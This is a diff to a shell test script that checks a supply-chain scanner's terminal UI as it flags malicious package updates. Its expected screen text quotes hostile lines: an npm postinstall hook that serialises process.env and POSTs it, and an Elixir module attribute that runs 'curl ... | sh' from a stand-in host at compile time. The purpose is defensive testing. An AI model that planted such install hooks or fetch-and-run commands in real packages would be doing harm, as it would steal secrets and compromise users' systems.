@@ -31,7 +31,8 @@ quit_clean() {
 }
 
 # --- npm topbar 2.0.1 -> 2.0.2: a postinstall that posts process.env ---------
-start 180 70 "$DEMO"
+# (150 columns: the pane is narrower than telemetry.js's longest line)
+start 150 70 "$DEMO"
 keys / '^topbar$' Enter 2
 see "the pin is the latest release" "topbar's pin is its latest release"
 keys '['
@@ -41,13 +42,26 @@ see "4 files changed, +16 -3, 0 unchanged" "the two shipped archives are compare
 see "scanner: 4 findings new in the later version" "the scanner ran on both"
 see "critical npm-install-script-shell package.json:8" "the new critical finding, with its place"
 see "npm-exfil lib/telemetry.js:6" "the exfiltration"
-see "A +9     -0     lib/telemetry.js" "the added file"
+see "A +9     -0     lib/telemetry.js  ! 2 new hits" "the added file, with its hits counted"
+see "install-script postinstall: (none) -> node -e" "the manifest's new install script"
 keys j j Enter
 see "A lib/telemetry.js  2.0.1 -> 2.0.2" "Enter opens the added file"
-see "+const payload = JSON.stringify(process.env);" "the line that collects the environment"
+see "x X: scanner hits" "the keys to the hits are offered"
+see "! +const payload = JSON.stringify(process.env);" "the line is marked in the gutter"
+see "  ^ high npm-env-serialize: serialises the whole environment" "with its hit under it"
+see "! +const req = https.request({" "the request line is marked too"
+see '↳ ' "a line longer than the pane goes on, marked"
+see 'ethod: "POST",' "so its end is on the screen, never cut"
+keys x
+see "scanner hit 1 of 2 in this file" "x: the first hit"
+keys x
+see "scanner hit 2 of 2 in this file" "x: the next hit"
+keys X
+see "scanner hit 1 of 2 in this file" "X: back"
 keys Escape j Enter
 see "M package.json  2.0.1 -> 2.0.2" "the manifest's diff"
-see "+    \"postinstall\": \"node -e" "the postinstall that was added"
+see "! +    \"postinstall\": \"node -e" "the postinstall that was added, marked"
+see "^ critical npm-install-script-shell" "its critical hit on that line"
 quit_clean "topbar"
 
 # --- Hex ssl_verify_fun 1.1.6 -> 1.1.7: System.cmd at compile time -------------
@@ -58,7 +72,8 @@ keys s
 see "high     hex-compile-time-exec lib/ssl_verify_fun/pins.ex:4" "compile-time command in a module body"
 keys j j Enter
 see "A lib/ssl_verify_fun/pins.ex  1.1.6 -> 1.1.7" "the added module"
-see '+  @pins System.cmd("sh", ["-c", "curl -fsS https://pins.ssl-verify.example/v1 | sh"])' "the module attribute that runs curl | sh"
+see '! +  @pins System.cmd("sh", ["-c", "curl -fsS https://pins.ssl-verify.example/v1 | sh"])' "the module attribute that runs curl | sh, marked"
+see "^ high hex-compile-time-exec: code in a module body" "its hit under it"
 quit_clean "ssl_verify_fun"
 
 # --- PyPI reqeusts 2.31.0 -> 2.31.1: an sdist with a cmdclass install hook ------
